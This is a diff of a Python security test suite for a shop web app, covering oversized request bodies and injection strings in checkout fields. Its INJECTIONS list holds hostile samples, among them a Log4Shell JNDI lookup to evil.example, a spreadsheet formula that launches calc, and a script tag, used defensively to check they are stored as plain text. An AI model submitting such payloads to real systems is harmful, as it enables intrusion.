@@ -16,29 +16,29 @@ from shop.core.db import db
 from shop.orders.models import Order
 from shop.payments.models import Capture, InboxRow, Payment
 from shop.web.guard import LARGEST_BODY
-from tests.security.conftest import CHANGING, PASSWORD, People, addresses, all_rows, ask, filled
+from tests.security.conftest import CHANGING, PASSWORD, People, addresses, all_rows, ask, filled, of_people
 from tests.shop_fixtures import PEN, PRICES, Shop
 from tests.web.conftest import BUYER, Visitor
 
 on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
 MEGABYTE = 1_000_000
-ACCESS = {"bearer": {"Authorization": "Bearer sim_demo"}}
+BEARER = {"Authorization": "Bearer sim_demo"}
 BY_THE_WEB = frozenset({200, 303, 400, 404, 409, 413, 422, 429})
 
 
 @on_sqlite
 def test_a_body_of_a_megabyte_is_413_at_every_door_and_changes_nothing(people: People) -> None:
-    """Fault 13: with its length said, and in pieces."""
+    """Fault 13."""
     visitor = people.customer("mei")
     before = all_rows()
     asked = 0
     for method, path in addresses(people.shop.app, *CHANGING):
         where = filled(path, people.order)
-        proven = ACCESS["bearer"] if path.startswith("/dev/") else {}
-        bare = ask(visitor.client, method, where, data=b"x" * MEGABYTE, content_type="text/plain", headers=proven)
-        assert bare.status_code == 413, path
-        form = ask(visitor.client, method, where, data={"csrf_token": "x" * MEGABYTE}, headers=proven)
-        assert form.status_code == 413, (path, form.status_code)
+        if of_people(path):
+            sent: dict[str, Any] = {"data": {"csrf_token": "x" * MEGABYTE}}
+        else:
+            sent = {"data": b"x" * MEGABYTE, "content_type": "application/json", "headers": BEARER}
+        assert ask(visitor.client, method, where, **sent).status_code == 413, path
         asked += 1
     assert asked > 15
     assert MEGABYTE > LARGEST_BODY
@@ -57,29 +57,27 @@ INJECTIONS = [
     "${jndi:ldap://evil.example/a}",
     "%(name)s %s {0} {name}",
     "=cmd|' /C calc'!A0",
-    "\u202egnp.exe",
+    "<script>alert(1)</script>",
 ]
+TEXTS = ("name", "line1", "line2", "city")
 
 
 def test_sql_and_templates_in_every_field_are_kept_and_shown_as_the_words_they_are(people: People, shop: Shop) -> None:
     """Attack 19."""
     secret = shop.app.config["SECRET_KEY"].strip()
-    for text in INJECTIONS[:-1]:
-        shop.restock(PEN)
+    for four in zip(*[iter(INJECTIONS)] * 4, strict=True):
         visitor = Visitor(shop.app)
         visitor.add(PEN)
-        words = {"name": text[:80], "line1": text, "city": text[:60], "line2": text}
-        answer = visitor.checkout(**words)
-        assert answer.status_code == 303, text
-        page = visitor.get(str(answer.location))
-        assert secret not in page.text
+        answer = visitor.checkout(**dict(zip(TEXTS, four, strict=True)))
+        assert answer.status_code == 303, four
+        assert secret not in visitor.get(str(answer.location)).text
         db.session.rollback()
         order = db.session.scalars(db.select(Order).order_by(Order.id.desc()).limit(1)).one()
-        assert (order.line1, order.line2) == (text, text)
+        assert tuple(getattr(order, name) for name in TEXTS) == four
         assert order.total_amount == PRICES[PEN]["TWD"]
-        for path in ("/", "/orders"):
-            assert visitor.get(path, query_string={"q": text, "category": ""}).status_code == 200
-    assert shop.count(Order) == len(INJECTIONS)
+        for text in four:
+            assert visitor.get("/", query_string={"q": text}).status_code == 200
+    assert shop.count(Order) == 1 + len(INJECTIONS) // 4
 
 
 @pytest.fixture
@@ -102,7 +100,7 @@ FORMS = {
 
 
 @on_sqlite
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(
     path=st.sampled_from(sorted(FORMS)),
     texts=st.lists(st.text(max_size=30) | st.sampled_from(INJECTIONS), min_size=8, max_size=8),
